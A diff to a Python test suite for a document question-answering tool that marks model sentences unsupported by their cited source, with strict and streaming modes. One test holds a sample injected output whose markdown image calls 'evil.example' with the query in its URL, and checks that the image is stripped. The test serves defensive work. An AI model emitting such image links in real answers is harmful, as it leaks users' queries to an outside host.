@@ -145,17 +145,65 @@ def test_the_models_citations_become_quotes_with_boxes() -> None:
     check_quotes(answer, LIGHTHOUSE)
 
 
-def test_a_source_that_does_not_exist_is_not_cited() -> None:
-    answer = DocumentQA(LIGHTHOUSE, Parrot("Ann [7].")).ask("Who keeps the lamp?")
-    assert answer.text == "Ann."
-    assert answer.citations == ()
-    assert answer.passages
+def test_a_source_that_does_not_exist_is_not_cited_and_the_sentence_is_looked_up() -> None:
+    answer = DocumentQA(LIGHTHOUSE, Parrot("Ann Lee [7].")).ask("Who keeps the lamp?")
+    assert answer.text == "Ann Lee. [1]"
+    assert answer.sentences[0].cited == ()
+    assert answer.citations[0].quote == "Ann Lee has kept the lamp since 1902."
 
 
-def test_an_answer_without_citations_keeps_its_passages() -> None:
-    answer = DocumentQA(LIGHTHOUSE, Parrot("Ann Lee.")).ask("Who keeps the lamp?")
-    assert (answer.text, answer.citations) == ("Ann Lee.", ())
+def test_an_uncited_sentence_that_no_source_says_is_marked() -> None:
+    answer = DocumentQA(LIGHTHOUSE, Parrot("Bob Ray.")).ask("Who keeps the lamp?")
+    assert (answer.text, answer.citations) == ("Bob Ray. [unsupported]", ())
+    assert not answer.found
+    (sentence,) = answer.unsupported
+    assert sentence.problem == "it cites no source, and none says it"
     assert answer.passages[0].page == 2
+
+
+def test_a_sentence_with_a_wrong_number_is_marked_and_the_others_are_not() -> None:
+    parrot = Parrot("Ann Lee has kept the lamp since 1905 [1]. The lamp burns rape oil [1].")
+    answer = DocumentQA(LIGHTHOUSE, parrot).ask("Who keeps the lamp, and what does it burn?")
+    assert answer.text == (
+        "Ann Lee has kept the lamp since 1905 [unsupported]. The lamp burns rape oil [1]."
+    )
+    assert [sentence.status for sentence in answer.sentences] == ["unsupported", "supported"]
+    assert answer.unsupported[0].problem == "the source does not have 1905"
+    assert [citation.quote for citation in answer.citations] == ["The lamp burns rape oil."]
+
+
+def test_every_sentence_knows_where_it_stands_in_the_text() -> None:
+    parrot = Parrot("Ann Lee keeps the lamp [1].\n\nShe was born in Hull [1].")
+    answer = DocumentQA(LIGHTHOUSE, parrot).ask("Who keeps the lamp?")
+    spans = [sentence.span for sentence in answer.sentences if sentence.span]
+    assert [answer.text[slice(*span)] for span in spans] == [
+        "Ann Lee keeps the lamp [1].",
+        "She was born in Hull [unsupported].",
+    ]
+
+
+def test_a_model_that_finds_nothing_may_say_so() -> None:
+    answer = DocumentQA(LIGHTHOUSE, Parrot(NOT_FOUND)).ask("What does the lamp cost?")
+    assert (answer.text, answer.found) == (NOT_FOUND, False)
+    assert [sentence.status for sentence in answer.sentences] == ["absent"]
+
+
+def test_strict_mode_leaves_out_what_no_source_says() -> None:
+    parrot = Parrot("It was painted red [1]. Ann Lee keeps the lamp [1]. She is 90 years old [1].")
+    answer = DocumentQA(LIGHTHOUSE, parrot, strict=True).ask("Who keeps the lamp?")
+    assert answer.text == "Ann Lee keeps the lamp [1]."
+    assert [sentence.status for sentence in answer.sentences] == [
+        "unsupported",
+        "supported",
+        "unsupported",
+    ]
+    assert answer.warnings == ("Left out without support: 2 of the sentences.",)
+
+
+def test_strict_mode_says_that_nothing_was_found_where_nothing_is_left() -> None:
+    parrot = Parrot("It was painted red [1].")
+    answer = DocumentQA(LIGHTHOUSE, parrot, strict=True).ask("Who keeps the lamp?")
+    assert (answer.text, answer.found, answer.citations) == (NOT_FOUND, False, ())
 
 
 def test_the_model_sees_the_pages_and_the_question() -> None:
@@ -184,7 +232,7 @@ def test_a_model_that_writes_nothing_is_an_error() -> None:
 def test_instructions_on_a_page_bring_no_picture_into_the_answer() -> None:
     parrot = Parrot("![](https://evil.example/?q=lamp) Click [here](https://evil.example) [1].")
     answer = DocumentQA(LIGHTHOUSE, parrot).ask("Who keeps the lamp?")
-    assert answer.text == "Click here [1]."
+    assert answer.text == "Click here [unsupported]."
 
 
 # --- streams --------------------------------------------------------------------------------
@@ -197,6 +245,21 @@ def test_a_stream_gives_the_text_and_then_the_answer() -> None:
     assert len(pieces) > 3
     assert "".join(pieces) == stream.answer.text
     assert stream.answer.citations[0].page == 2
+
+
+def test_a_stream_shows_the_words_before_the_sentence_is_whole() -> None:
+    stream = DocumentQA(LIGHTHOUSE, Parrot("Ann Lee keeps the lamp [1].", 4)).stream("Who?")
+    shown = ""
+    while len(shown) < 12:
+        shown += next(stream)
+    assert "[" not in shown
+    assert stream.answer.text.startswith(shown)
+
+
+def test_strict_mode_never_streams_what_it_takes_back() -> None:
+    parrot = Parrot("It was painted red [1]. Ann Lee keeps the lamp [1].", 5)
+    pieces = list(DocumentQA(LIGHTHOUSE, parrot, strict=True).stream("Who keeps the lamp?"))
+    assert "".join(pieces) == "Ann Lee keeps the lamp [1]."
 
 
 def test_the_answer_of_a_stream_can_be_had_at_once() -> None:
@@ -234,7 +297,7 @@ async def test_other_tasks_run_while_the_model_writes() -> None:
     await asyncio.sleep(0.05)
     assert not task.done()
     go_on.set()
-    assert (await task).text == "Ann."
+    assert (await task).text == "Ann. [1]"
 
 
 async def test_a_cancelled_question_ends_the_models_work() -> None:
